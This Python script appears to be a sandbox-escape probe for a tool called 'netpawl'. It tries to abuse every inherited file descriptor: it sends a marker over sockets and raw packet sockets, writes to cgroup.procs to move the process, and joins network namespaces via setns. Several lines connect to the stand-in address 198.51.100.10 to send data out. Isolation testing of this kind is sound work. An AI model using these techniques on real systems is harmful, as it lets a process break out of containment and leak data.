# SPDX-License-Identifier: MIT
"""Uses whatever was handed over from outside: every open descriptor, in every way that could help."""
import ctypes
import errno
import json
import os
import socket
import stat
import sys

libc = ctypes.CDLL(None, use_errno=True)


def use(fd, mark):
    """What one descriptor is, and what it let us do."""
    info = {"fd": fd, "link": os.readlink(f"/proc/self/fd/{fd}")}
    mode = os.fstat(fd).st_mode
    if stat.S_ISSOCK(mode):
        info["kind"] = "socket"
        s = socket.socket(fileno=os.dup(fd))
        info["family"] = int(s.family)
        s.settimeout(1)
        head = bytes.fromhex("020000000201020000000202") + b"\x88\xb5"
        calls = {
            "send": lambda: s.send(mark.encode()),
            "connect": lambda: s.connect(("198.51.100.10", 9000) if s.family == socket.AF_INET else ("2001:db8:2::10", 9000)),
            "accept": lambda: s.accept()[0].send(mark.encode()),
        }
        if s.family == socket.AF_PACKET:  # an address of this form would be looked up by name on other families
            calls = {"frame": lambda: s.sendto(head + mark.encode() + bytes(40), ("npv0", 0x88B5))}
        for name, call in calls.items():
            try:
                call()
                info[name] = "ok"
            except OSError as e:
                info[name] = errno.errorcode.get(e.errno, str(e))
            except (TypeError, ValueError) as e:
                info[name] = type(e).__name__
    elif stat.S_ISDIR(mode):
        info["kind"] = "directory"
        try:
            procs = os.open("cgroup.procs", os.O_WRONLY, dir_fd=fd)
            os.write(procs, b"0")
            info["moved"] = "ok"
        except OSError as e:
            info["moved"] = errno.errorcode.get(e.errno, str(e))
    elif info["link"].startswith("net:") or libc.setns(fd, 0x40000000) == 0:
        info["kind"] = "netns"
        info["setns"] = "ok" if libc.setns(fd, 0x40000000) == 0 else errno.errorcode.get(ctypes.get_errno())
        try:
            s = socket.socket()
            s.settimeout(1)
            s.connect(("198.51.100.10", 9000))
            s.send(mark.encode())
            info["reach"] = "ok"
        except OSError as e:
            info["reach"] = errno.errorcode.get(e.errno, str(e))
    return info


def main():
    """As the command of `netpawl run`: fds.py MARK [ANSWER-FILE]; stdin and stdout may themselves be the attack."""
    mark = sys.argv[1]
    found = []
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        try:
            if fd == 2 or (len(sys.argv) > 2 and fd > 2 and os.readlink(f"/proc/self/fd/{fd}") == sys.argv[2]):
                continue
            found.append(use(fd, mark))
        except OSError:
            continue  # the descriptor of the listing itself
    # A program that was moved, or that got a socket, would now go on from there.
    try:
        s = socket.create_connection(("198.51.100.10", 9000), 1)
        s.send(mark.encode())
        after = "ok"
    except OSError as e:
        after = errno.errorcode.get(e.errno, str(e))
    os.write(2, (json.dumps({"fds": found, "after": after}) + "\n").encode())


if __name__ == "__main__":
    main()
